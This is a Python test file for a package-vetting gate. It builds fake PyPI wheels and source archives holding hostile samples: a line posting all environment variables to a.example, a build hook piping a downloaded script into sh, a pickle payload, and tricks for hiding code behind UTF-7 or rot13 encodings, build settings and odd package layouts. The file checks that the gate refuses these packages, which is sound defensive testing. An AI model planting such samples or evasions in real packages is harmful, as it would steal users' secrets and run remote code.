"""What an analyser could give up on, misread or never open, through the whole gate.

Each package comes as an archive by address and as a PyPI request; none of them is approved, and
what looks like it and is honest is.
"""

from collections.abc import Mapping
from datetime import UTC, datetime, timedelta

import pytest

from tests.fakes.https_server import https_server, respond
from tests.fakes.package_index import PackageIndex, metadata, sdist, wheel
from tests.local_run import LocalRun

HARM = b"import os\nimport requests\nrequests.post('https://a.example', json=dict(os.environ))\n"
UTF_7 = HARM.replace(b"import os", b"import+ACA-os").replace(b"requests.", b"requests+AC4-")
SETUP = b"from setuptools import setup\nsetup()\n"

WHEELS: dict[str, tuple[str, Mapping[str, bytes]]] = {
    "deep": ("unreadable-code", {"deep/__init__.py": HARM + b"x" + b".f()" * 15_000}),
    "brackets": ("unreadable-code", {"brackets/a.py": HARM + b"[" * 250 + b"]" * 250}),
    "large": ("", {"large/__init__.py": HARM + b"x = [" + b"1," * 6_000_000 + b"]\n"}),
    "newer": (
        "sends-secrets",
        {"newer/__init__.py": HARM + b"type X[T] = list[T]\ny = f'{HARM['a']}'\n"},
    ),
    "utf7": ("unusual-encoding", {"utf7/__init__.py": b"# coding: utf-7\n" + UTF_7}),
    "escaped": (
        "unusual-encoding",
        {"escaped/a.py": b"#!x\n# vim: fileencoding=raw_unicode_escape\n#\\u000aimport os\n"},
    ),
    "table": (
        "unusual-encoding",
        {"table/__init__.py": b"", "table/table.dat": b"# coding: utf-7\n" + UTF_7},
    ),
    "carriage": ("unusual-encoding", {"carriage/a.py": b"\r# coding: rot13\rvzcbeg bf\r"}),
    "script": (
        "sends-secrets",
        {
            "script/__init__.py": b"",
            "script-1.0.data/scripts/hello": b"#!python\nif __name__ == '__main__':\n    "
            + HARM.replace(b"\n", b"\n    "),
        },
    ),
    "unpickled": (
        "runs-own-data",
        {
            "unpickled/__init__.py": b"import pickle\nfrom pathlib import Path\n"
            b"pickle.loads(Path(__file__).with_name('table.bin').read_bytes())\n",
            "unpickled/table.bin": b"cos\nsystem\n.",
        },
    ),
    "honest": (
        "",
        {
            "honest/__init__.py": b"# coding: latin-1\nname = 'J\xfcrgen'\nx = "
            + b" + ".join([b"'a'"] * 200),
            "honest/data/python2.py": b"import os\nprint 'x'\nos.environ\nurlopen = eval\n",
            "honest/new.py": b"import os\ntype X = int\ny = f'{os.environ['HOME']}'\n",
            "honest-1.0.data/scripts/hello": b"#!python\nimport honest\nprint(honest.name)\n",
        },
    ),
}
SDISTS: dict[str, tuple[str, Mapping[str, bytes]]] = {
    "besides": ("sends-secrets", {"setup.py": b"import one\n" + SETUP, "tools/one.py": HARM}),
    "notes": (
        "runs-own-data",
        {"setup.py": b"exec(open('notes.txt').read())\n" + SETUP, "notes.txt": HARM},
    ),
    "samples": (
        "sends-secrets",
        {
            "setup.py": SETUP,
            "samples/__init__.py": b"from .tests import core\n",
            "samples/tests/core.py": HARM,
        },
    ),
    "spaced": (
        "sends-secrets",
        {"setup.py": b"exec(open('my tool.py').read())\n" + SETUP, "my tool.py": HARM},
    ),
    "attribute": (
        "sends-secrets",
        {
            "setup.py": SETUP,
            "setup.cfg": b"[metadata]\nversion = attr: lib.version.V\n",
            "lib/version.py": HARM,
        },
    ),
    "command": (
        "sends-secrets",
        {
            "setup.py": SETUP,
            "pyproject.toml": b'[tool.setuptools.cmdclass]\nbuild_py = "tools.own.Build"\n',
            "tools/own.py": b"from setuptools import Command\n\nclass Build(Command):\n"
            b"    def run(self):\n        " + HARM.replace(b"\n", b"\n        "),
        },
    ),
    "settings": (
        "runs-downloaded-code",
        {
            "pyproject.toml": b'[build-system]\nrequires = ["hatchling", "hatch-build-scripts"]\n'
            b"[[tool.hatch.build.hooks.build-scripts.scripts]]\n"
            b"commands = ['curl -s https://a.example | sh']\n",
        },
    ),
    "space": ("sends-secrets", {"pyproject.toml": b"", "src/space/deep/core.py": HARM}),
    "elsewhere": (
        "sends-secrets",
        {
            "setup.py": b"from setuptools import setup\nsetup(packages=['elsewhere.core'],"
            b" package_dir={'elsewhere.core': 'docs'})\n",
            "elsewhere/__init__.py": b"",
            "docs/helper.py": HARM,
        },
    ),
    "hatched": (
        "sends-secrets",
        {
            "pyproject.toml": b'[build-system]\nrequires = ["hatchling"]\n'
            b'build-backend = "hatchling.build"\n[tool.hatch.build.targets.wheel]\n'
            b'packages = ["lib/hatched"]\n',
            "lib/hatched/core.py": HARM,
        },
    ),
    "foreign": ("foreign-module", {"pyproject.toml": b"", "src/boto3/session.py": b"x = 1\n"}),
    "fetched": (
        "installs-another-package",
        {"setup.py": SETUP.replace(b"()", b"(setup_requires=['x @ https://a.example/x.zip'])")},
    ),
    "versioned": (
        "",
        {
            "setup.py": b"about = {}\nwith open('README.md') as f:\n    long = f.read()\n"
            b"with open('versioned/about.py') as f:\n    exec(f.read(), about)\n" + SETUP,
            "README.md": b"# Honest\n",
            "versioned/__init__.py": b"",
            "versioned/about.py": b"__version__ = '1.0'\n",
            "docs/conf.py": b"import subprocess\nsubprocess.run(['git', 'describe'])\n",
        },
    ),
}
HONEST = {"honest", "versioned"}
LATELY = datetime.now(UTC) - timedelta(days=30)
"""Before the cooldown, but not so long ago that a release is a precedent."""


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, tuple[str, set[str]]]:
    """Give verdict and rules by the request's name, after one run for them all."""
    folder = tmp_path_factory.mktemp("looked")
    lines = []
    with https_server(folder) as server:
        index = PackageIndex(server)
        index.add_build_tools()
        for tool in ("hatchling", "hatch-build-scripts"):
            index.add_wheel(tool, "1.0")
        for name, (_, files) in {**WHEELS, **SDISTS}.items():
            core = metadata(name, "1.0")
            if name in WHEELS:
                filename, data = wheel(name, "1.0", core, content=files)
            else:
                filename, data = sdist(name, "1.0", {**files, "PKG-INFO": core})
            index.add_file(name, filename, data, uploaded=LATELY)
            server.routes[f"/{filename}"] = respond(data)
            lines += [f"pypi-{name},pypi:{name}\n", f"at-{name},{server.url}/{filename}\n"]
        local = LocalRun(folder / "run", index)
        local.folder.mkdir()
        local.run("".join(lines))
    return {
        request["name"]: (
            request["verdict"],
            {each["rule"] for package in request["packages"] for each in package["findings"]},
        )
        for request in local.report()["requests"]
    }


@pytest.mark.parametrize("origin", ["pypi", "at"])
@pytest.mark.parametrize("name", [*WHEELS, *SDISTS])
def test_what_is_not_looked_at_is_not_approved(
    report: Mapping[str, tuple[str, set[str]]], name: str, origin: str
) -> None:
    verdict, rules = report[f"{origin}-{name}"]
    rule, _ = {**WHEELS, **SDISTS}[name]

    if name in HONEST:
        assert verdict == "approved", rules
    else:
        assert verdict in {"refused", "undecided"}
        assert rule in {"", *rules}
